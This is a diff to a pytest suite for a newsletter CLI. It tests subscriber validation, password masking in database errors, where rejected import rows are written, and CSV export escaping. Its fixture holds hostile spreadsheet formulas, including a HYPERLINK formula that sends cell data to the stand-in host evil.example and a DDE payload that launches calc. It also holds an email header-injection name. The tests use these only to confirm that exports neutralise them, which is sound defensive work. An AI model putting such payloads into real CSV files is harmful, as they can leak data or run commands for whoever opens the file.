@@ -155,8 +155,9 @@ def test_forget(letter_db, cli):
 
 def test_bad_addresses_and_unknown_subscribers_are_one_line_errors(letter, cli):
     assert "is not a valid email address" in _error_line(cli("subscribers", "add", "ann@"))
-    line = _error_line(cli("subscribers", "add", "ann@example.com", "--name", "A\nBcc: x"))
-    assert "line break" in line
+    result = cli("subscribers", "add", "ann@example.com", "--name", "A\nBcc: x")
+    assert result.exit_code == 0, result.output  # folded onto one line, not refused
+    assert json.loads(cli("subscribers", "list", "--format", "json").stdout)[0]["name"] == "A Bcc: x"
     assert "is not a subscriber" in _error_line(cli("subscribers", "unsubscribe", "zed@example.com"))
     line = _error_line(cli("subscribers", "add", "ann@example.com", "--list", "weekly"))
     assert "no list named 'weekly'" in line and "newsletter lists create weekly" in line
@@ -239,6 +240,45 @@ def test_an_unreachable_database_is_one_line_with_the_password_masked(letter, cl
         line = _error_line(result)
         assert "postgresql+psycopg://letter:***@127.0.0.1:1/letters" in line
         assert "s3cret-pw" not in result.output
+
+
+def test_an_unreachable_database_masks_a_password_in_the_query_string(letter, cli, monkeypatch):
+    monkeypatch.setenv(
+        "NEWSLETTER_DATABASE_URL",
+        "postgresql+psycopg://letter@127.0.0.1:1/letters?sslmode=disable&password=s3cret-pw",
+    )
+    for args in (("subscribers", "list"), ("lists", "list")):
+        result = cli(*args)
+        line = _error_line(result)
+        assert "postgresql+psycopg://letter@127.0.0.1:1/letters?sslmode=disable&password=***" in line
+        assert "s3cret-pw" not in result.output
+
+
+def test_rejected_rows_are_written_to_the_current_folder_and_the_summary_says_where(
+    letter_db, cli, tmp_path
+):
+    theirs = tmp_path / "shared"
+    theirs.mkdir()
+    (theirs / "readers.csv").write_text("email,name\nann@example.com,Ann\nbob@,Bob\n")
+    result = cli("subscribers", "import", str(theirs / "readers.csv"))
+    assert result.exit_code == 0, result.output
+    lines = [" ".join(line.split()) for line in result.output.splitlines()]
+    assert "rejected 1 (written to readers.rejected.csv)" in lines
+    assert (tmp_path / "readers.rejected.csv").exists()  # tmp_path is the current folder
+    assert not (theirs / "readers.rejected.csv").exists()
+
+    result = cli("subscribers", "import", str(theirs / "readers.csv"), "--rejects", "out/fix.csv",
+                 "--dry-run")
+    assert "(would be written to out/fix.csv)" in " ".join(result.output.split())
+    (tmp_path / "out").mkdir()
+    result = cli("subscribers", "import", str(theirs / "readers.csv"), "--rejects", "out/fix.csv")
+    assert "rejected 1 (written to out/fix.csv)" in [" ".join(ln.split()) for ln in result.output.splitlines()]
+    assert len((tmp_path / "out" / "fix.csv").read_text().splitlines()) == 2  # header, bob
+
+    line = _error_line(cli("subscribers", "import", str(theirs / "readers.csv"), "--rejects",
+                           "missing/fix.csv"))
+    assert "missing/fix.csv: cannot write the rejected rows there" in line
+    assert "--rejects FILE" in line
 
 
 # -- list, export, stats ----------------------------------------------------------------------
@@ -384,3 +424,54 @@ def test_the_status_choices_are_the_statuses():
     from newsletter.cli.subscribers import STATUS_CHOICES
 
     assert STATUS_CHOICES == subscribers.STATUSES
+
+
+FORMULA_NAMES = {
+    "eve@example.com": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "fay@example.com": "+cmd|' /C calc'!A0",
+    "gus@example.com": "@SUM(1+1)",
+    "hal@example.com": "-2+3",
+    "ida@example.com": "Ida;=1+2",
+}
+
+
+@pytest.fixture
+def formulas(letter_db, cli, write):
+    rows = "".join(f'{email},"{name.replace(chr(34), chr(34) * 2)}",=cmd\n'
+                   for email, name in FORMULA_NAMES.items())
+    write("hostile.csv", "email,name,city\n" + rows)
+    result = cli("subscribers", "import", "hostile.csv")
+    assert "added 5" in " ".join(result.output.split())
+    return letter_db
+
+
+@pytest.mark.parametrize("command", [("export",), ("list", "--format", "csv")])
+def test_csv_output_never_holds_a_formula_a_spreadsheet_would_run(formulas, cli, command):
+    result = cli("subscribers", *command)
+    assert result.exit_code == 0, result.output
+    lines = result.stdout.splitlines()
+    assert lines[0].startswith('"email","name","status",')
+    assert all(line.startswith('"') and line.endswith('"') for line in lines)  # all quoted
+    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
+    assert len(rows) == 5
+    for row in rows:
+        email, name = row[0], row[1]
+        assert name == "'" + FORMULA_NAMES[email]
+        # Inside the JSON, "=cmd would start a cell for a reader that splits at quotes.
+        assert row[-1] == """'{"city": "=cmd"}"""
+    for cell in (c for row in rows for c in row):
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_json_export_is_exact_and_the_csv_export_imports_back_as_it_was(formulas, cli, letter):
+    data = json.loads(cli("subscribers", "export", "--format", "json").stdout)
+    assert {m["email"]: m["name"] for m in data} == FORMULA_NAMES
+    assert all(m["attributes"] == {"city": "=cmd"} for m in data)
+
+    (letter / "backup.csv").write_text(cli("subscribers", "export").stdout, encoding="utf-8")
+    cli("lists", "create", "restored")
+    result = cli("subscribers", "import", "backup.csv", "--list", "restored")
+    assert "added 5" in " ".join(result.output.split())
+    restored = json.loads(cli("subscribers", "export", "--list", "restored", "--format", "json").stdout)
+    assert {m["email"]: m["name"] for m in restored} == FORMULA_NAMES
+    assert all(m["attributes"] == {"city": "=cmd"} for m in restored)
